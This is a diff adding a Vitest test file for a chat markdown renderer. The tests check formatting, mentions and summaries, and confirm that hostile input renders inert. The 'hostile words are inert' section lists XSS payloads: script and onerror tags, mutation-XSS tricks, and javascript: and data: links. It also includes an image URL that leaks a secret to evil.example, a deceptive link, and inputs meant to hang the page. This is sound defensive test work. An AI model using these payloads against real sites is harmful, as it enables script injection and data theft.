@@ -1,0 +1,113 @@
+import { describe, expect, it } from 'vitest';
+import { renderBlocks, summary } from './markdown';
+
+const html = (text: string) => renderBlocks(text).join('');
+
+/** The rendered message as a document of its own. */
+function dom(text: string): HTMLElement {
+  const root = document.createElement('div');
+  root.innerHTML = html(text);
+  return root;
+}
+
+describe('what people write', () => {
+  it('becomes paragraphs, lists, code and tables', () => {
+    expect(html('one\ntwo')).toContain('one<br>two');
+    expect(dom('- a\n- b').querySelectorAll('li')).toHaveLength(2);
+    expect(dom('```rust\nfn x() {}\n```').querySelector('code')?.dataset['lang']).toBe('rust');
+    expect(dom('|a|b|\n|-|-|\n|1|2|').querySelectorAll('td')).toHaveLength(2);
+  });
+
+  it('keeps blocks the same while text is added after them', () => {
+    const before = renderBlocks('First.\n\nSec');
+    const after = renderBlocks('First.\n\nSecond.\n\nThi');
+    expect(after[0]).toBe(before[0]);
+    expect(after).toHaveLength(3);
+  });
+
+  it('marks names, but not in code or addresses', () => {
+    expect(dom('hi @Ann, (@bob) @c.d!').querySelectorAll('.at')).toHaveLength(3);
+    expect(dom('`@ann` a@b.example').querySelectorAll('.at')).toHaveLength(0);
+    expect(dom('@c.d!').querySelector('.at')?.textContent).toBe('@c.d');
+  });
+});
+
+describe('hostile words are inert', () => {
+  const scripts = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)>',
+    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+    '<svg><style><img src=x onerror=alert(1)></style></svg>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<iframe src="https://evil.example"></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<form action="https://evil.example"><input name=fetch></form>',
+    '<div id=root class="btn fixed" style="position:fixed;inset:0">x</div>',
+  ];
+  it.each(scripts)('raw HTML stays text: %s', (text) => {
+    const root = dom(text);
+    expect(root.textContent).toContain('<');
+    expect(
+      root.querySelector(
+        'script, img, svg, math, style, iframe, form, input, noscript, [id], [style], [onerror], [onload]',
+      ),
+    ).toBeNull();
+  });
+
+  it.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    '&#x6A;avascript:alert(1)',
+    'data:text/html,<script>',
+    'vbscript:x',
+    ' javascript:x',
+    '//evil.example',
+  ])('a link to %s is no link', (href) => expect(dom(`[x](<${href}>)`).querySelector('a')).toBeNull());
+
+  it('nothing is fetched for an image, however it is written', () => {
+    for (const text of ['![x](https://evil.example/?q=secret)', '![x][r]\n\n[r]: https://evil.example/?q=secret']) {
+      const root = dom(text);
+      expect(root.querySelector('img')).toBeNull();
+      expect(root.textContent).toContain('evil.example');
+    }
+    expect(dom('![x](data:image/svg+xml;base64,PHN2Zz4=)').querySelector('img')).toBeNull();
+    expect(dom('![x](data:image/png;base64,iVBORw0KGgo=)').querySelector('img')).not.toBeNull();
+  });
+
+  it('a link shows the host it leads to', () => {
+    const root = dom('[https://bank.example](https://evil.example/login)');
+    expect(root.querySelector('.host')?.textContent).toBe('(evil.example)');
+    expect(root.querySelector('a')?.rel).toContain('noopener');
+    expect(dom('https://bank.example/x').querySelector('.host')).toBeNull();
+  });
+
+  it('a language of a code block cannot leave its place', () => {
+    const code = dom('```"><script>alert(1)</script>\nx\n```').querySelector('code');
+    expect(code?.dataset['lang']).toBe('scriptalert1script');
+  });
+
+  it('depth and width have limits, and nothing makes the page hang', () => {
+    const texts = [
+      '>'.repeat(10_000) + ' x',
+      Array.from({ length: 1_000 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'),
+      `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n`,
+      '['.repeat(50_000),
+      '*'.repeat(50_000),
+      '`'.repeat(50_000),
+      'a'.repeat(1_000_000),
+      '\n'.repeat(50_000),
+      `\`\`\`js\n${'x'.repeat(150_000)}\n\`\`\``,
+    ];
+    for (const text of texts) {
+      expect(renderBlocks(text).length).toBeLessThan(50_000);
+    }
+  });
+});
+
+describe('summary', () => {
+  it('is one plain line', () => {
+    expect(summary('**Bold** and `code`\n\n- item [link](https://x.example)')).toBe('Bold and code item link');
+    expect(summary('x'.repeat(500))).toHaveLength(141);
+  });
+});
